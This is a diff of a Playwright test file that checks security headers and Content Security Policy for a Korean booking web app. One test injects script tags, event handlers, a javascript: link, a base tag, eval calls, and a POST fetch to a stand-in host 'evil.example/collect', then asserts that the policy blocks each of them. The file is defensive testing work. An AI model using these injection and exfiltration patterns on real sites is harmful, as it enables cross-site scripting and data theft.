@@ -1,41 +1,203 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
+import type { Page } from '@playwright/test'
+import { branchPath, paths, programPath } from '../src/domain/paths'
 import { expect, open, test } from './test'
 
-test('the preview sends the headers that the hosting will send', async ({ request }) => {
-  const page = await request.get('/branches')
-  const headers = page.headers()
-  expect(headers['content-security-policy']).toContain("script-src 'self' 'sha256-")
-  expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe-(?:inline|eval)/)
-  expect(headers['x-content-type-options']).toBe('nosniff')
-  expect(headers['strict-transport-security']).toContain('max-age=')
-  expect(headers['cache-control']).toBe('no-cache')
-})
+const HASH = /'sha256-[\w+/=]+'/
+const KEPT_FOR_EVER = 'public, max-age=31536000, immutable'
+const ASKED_AGAIN = 'no-cache'
 
-test('files with a hash in their name are kept for ever, a missing one is missing', async ({
+/** What every answer says, whatever it brings. */
+const everywhere = {
+  'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
+  'x-content-type-options': 'nosniff',
+  'x-frame-options': 'DENY',
+  'referrer-policy': 'strict-origin-when-cross-origin',
+  'permissions-policy': expect.stringMatching(/^geolocation=\(self\)(?:, [a-z-]+=\(\))+$/),
+  'cross-origin-opener-policy': 'same-origin',
+  'cross-origin-resource-policy': 'same-origin',
+}
+
+/** The directives of a policy by name, in any order. */
+const directivesOf = (policy: string) =>
+  Object.fromEntries(
+    policy.split('; ').map((directive) => {
+      const [name = '', ...sources] = directive.split(' ')
+      return [name, sources]
+    }),
+  )
+
+test('the preview sends the headers that the hosting will send', { tag: '@desktop' }, async ({
   page,
   request,
 }) => {
   const scripts: string[] = []
   page.on('response', (response) => {
-    if (/\/assets\/.*\.js$/.test(response.url())) scripts.push(response.url())
+    const { pathname } = new URL(response.url())
+    if (/^\/assets\/.*\.js$/.test(pathname)) scripts.push(pathname)
   })
   await open(page, '/')
   const [script = ''] = scripts
-  expect((await request.get(script)).headers()['cache-control']).toContain('immutable')
+
+  const cached: [string, string][] = [
+    ['/', ASKED_AGAIN],
+    [paths.branches, ASKED_AGAIN],
+    [paths.myBookings, ASKED_AGAIN],
+    ['/sw.js', ASKED_AGAIN],
+    ['/manifest.webmanifest', ASKED_AGAIN],
+    ['/favicon.svg', ASKED_AGAIN],
+    [script, KEPT_FOR_EVER],
+    ['/media/logo.svg', 'public, max-age=86400'],
+    ['/fonts/pretendard/PretendardVariable.subset.0.woff2', 'public, max-age=86400'],
+  ]
+  for (const [path, cacheControl] of cached) {
+    const headers = (await request.get(path)).headers()
+    expect(headers, path).toMatchObject({ ...everywhere, 'cache-control': cacheControl })
+    expect(directivesOf(headers['content-security-policy'] ?? ''), path).toEqual({
+      'default-src': ["'self'"],
+      'script-src': [
+        "'self'",
+        expect.stringMatching(HASH),
+        'https://dapi.kakao.com',
+        'https://t1.daumcdn.net/mapjsapi/',
+      ],
+      'style-src': ["'self'", "'unsafe-inline'"],
+      'img-src': [
+        "'self'",
+        'https://*.daumcdn.net',
+        'https://firebasestorage.googleapis.com',
+        'https://storage.googleapis.com',
+      ],
+      'font-src': ["'self'"],
+      'connect-src': ["'self'", 'https://firestore.googleapis.com'],
+      'worker-src': ["'self'"],
+      'manifest-src': ["'self'"],
+      'frame-src': ["'none'"],
+      'object-src': ["'none'"],
+      'base-uri': ["'none'"],
+      'form-action': ["'self'"],
+      'frame-ancestors': ["'none'"],
+    })
+  }
   expect((await request.get('/assets/gone-12345678.js')).status()).toBe(404)
 })
 
-test.describe('content security', () => {
-  test.use({ allowedErrors: [/Content Security Policy/] })
-
-  test('an inline script that found its way into the page does not run', async ({ page }) => {
-    await open(page, '/faq')
-    await page.evaluate(() => {
-      const script = document.createElement('script')
-      script.textContent = 'document.title = "taken over"'
-      document.body.append(script)
+/** Collects what a page's policy refuses, across its addresses. */
+async function watchPolicy(page: Page): Promise<string[]> {
+  const refused: string[] = []
+  await page.exposeFunction('noteRefusal', (directive: string, what: string) => {
+    refused.push(`${directive} ${what}`)
+  })
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      Reflect.get(window, 'noteRefusal')(effectiveDirective, blockedURI)
     })
+  })
+  return refused
+}
+
+test('no page and no map asks for what the policy refuses', { tag: '@desktop' }, async ({
+  page,
+}) => {
+  test.setTimeout(90_000)
+  const refused = await watchPolicy(page)
+  const complaints: string[] = []
+  page.on('console', (message) => {
+    if (/polic/i.test(message.text())) complaints.push(message.text())
+  })
+  const addresses = [
+    ...Object.values(paths),
+    branchPath('pangyo'),
+    programPath('art'),
+    '/no-such-page',
+  ]
+  for (const address of addresses) await open(page, address)
+
+  for (const [address, region] of [
+    ['/branches?view=map', '지점 지도'],
+    [branchPath('seongsu'), '오시는 길 지도'],
+  ] as const) {
+    await open(page, address)
+    const map = page.getByRole('region', { name: region })
+    await map.scrollIntoViewIfNeeded()
+    await expect(map.locator('canvas')).toBeVisible()
+  }
+  expect(refused).toEqual([])
+  expect(complaints).toEqual([])
+})
+
+test.describe('content security', () => {
+  // What is refused here is meant to be.
+  test.use({ allowedErrors: [/./] })
+
+  test('what found its way into a page neither runs, nor loads, nor sends', {
+    tag: '@desktop',
+  }, async ({ page }) => {
+    const refused = await watchPolicy(page)
+    await open(page, '/faq')
+    const thrown = await page.evaluate(async () => {
+      const takeOver = 'document.title = "taken over"'
+      const add = <K extends keyof HTMLElementTagNameMap>(
+        tag: K,
+        attributes: Record<string, string>,
+      ) => {
+        const element = document.createElement(tag)
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+        document.body.append(element)
+        return element
+      }
+      add('script', {}).append(takeOver)
+      add('script', { src: `data:text/javascript,${takeOver}` })
+      add('script', { src: 'https://evil.example/take-over.js' })
+      // A file that somebody uploaded to the map service's file host.
+      add('script', { src: 'https://t1.daumcdn.net/cfile/take-over.js' })
+      add('button', { type: 'button', onclick: takeOver }).click()
+      add('img', { src: '/media/none.webp', onerror: takeOver })
+      add('img', { src: 'https://evil.example/pixel.png' })
+      add('iframe', { src: 'https://evil.example/' })
+      add('a', { href: `javascript:${takeOver}` }).click()
+      add('base', { href: 'https://evil.example/' })
+      // Later, because the policy spares what a debugger evaluates at once.
+      const ran = new Promise<string[]>((resolve) => {
+        const attempts = [
+          () => Reflect.apply(Reflect.get(window, 'eval'), window, [takeOver]),
+          () => Reflect.construct(Function, [takeOver])(),
+        ]
+        setTimeout(() => {
+          resolve(
+            attempts.map((attempt) => {
+              try {
+                attempt()
+                return 'it ran'
+              } catch (error) {
+                return error instanceof Error ? error.name : 'something else'
+              }
+            }),
+          )
+        })
+      })
+      const sent = await fetch('https://evil.example/collect', { method: 'POST' }).then(
+        () => 'sent',
+        () => 'not sent',
+      )
+      return [...(await ran), sent]
+    })
+    expect(thrown).toEqual(['EvalError', 'EvalError', 'not sent'])
+    await expect
+      .poll(() => [...new Set(refused)].toSorted())
+      .toEqual([
+        'base-uri https://evil.example/',
+        'connect-src https://evil.example/collect',
+        'frame-src https://evil.example',
+        'img-src https://evil.example/pixel.png',
+        'script-src eval',
+        'script-src-attr inline',
+        'script-src-elem data',
+        'script-src-elem https://evil.example/take-over.js',
+        'script-src-elem https://t1.daumcdn.net/cfile/take-over.js',
+        'script-src-elem inline',
+      ])
     await expect(page).toHaveTitle('자주 묻는 질문 | 도담아지트')
   })
 })
